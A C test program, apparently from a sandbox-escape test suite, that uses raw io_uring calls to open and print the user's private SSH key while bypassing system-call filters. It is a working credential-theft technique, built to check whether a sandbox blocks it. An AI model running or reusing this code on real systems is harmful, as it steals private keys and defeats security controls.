/*
 * family: injection
 * tries: read the user's SSH key through io_uring (IORING_OP_OPENAT, then IORING_OP_READ) and print it: operations a system-call filter never sees one by one
 * source: https://nvd.nist.gov/vuln/detail/CVE-2023-2598
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 *
 * Raw system calls (no liburing): one submission at a time, waited for
 * with io_uring_enter(IORING_ENTER_GETEVENTS).
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct io_uring_params p;
static unsigned char *sq, *cq;
static struct io_uring_sqe *sqes;
static int ring;

/* Submits SQE (copied into slot 0) and returns its completion's res. */
static int
submit(const struct io_uring_sqe *sqe)
{
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *chead = (unsigned *)(cq + p.cq_off.head);
	unsigned *cmask = (unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	unsigned t = __atomic_load_n(tail, __ATOMIC_ACQUIRE);
	int res;

	sqes[0] = *sqe;
	array[t & *mask] = 0;
	__atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS,
		NULL, 0) < 0)
		return -errno;
	res = cqes[*chead & *cmask].res;
	__atomic_store_n(chead, *chead + 1, __ATOMIC_RELEASE);
	return res;
}

int
main(int argc, char **argv)
{
	static char path[4096], buf[65536];
	struct io_uring_sqe sqe;
	size_t sqlen, cqlen;
	int fd, n;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", argv[2]);
	if ((ring = (int)syscall(SYS_io_uring_setup, 4, &p)) < 0) {
		printf("io_uring_setup: %s\n", strerror(errno));
		return 1;
	}
	sqlen = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cqlen = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	sq = mmap(NULL, sqlen, PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	cq = mmap(NULL, cqlen, PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
		printf("mmap: %s\n", strerror(errno));
		return 1;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.open_flags = O_RDONLY;
	if ((fd = submit(&sqe)) < 0) {
		printf("IORING_OP_OPENAT: %s\n", strerror(-fd));
		return 1;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_READ;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = sizeof(buf);
	if ((n = submit(&sqe)) < 0) {
		printf("IORING_OP_READ: %s\n", strerror(-n));
		return 1;
	}
	fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}
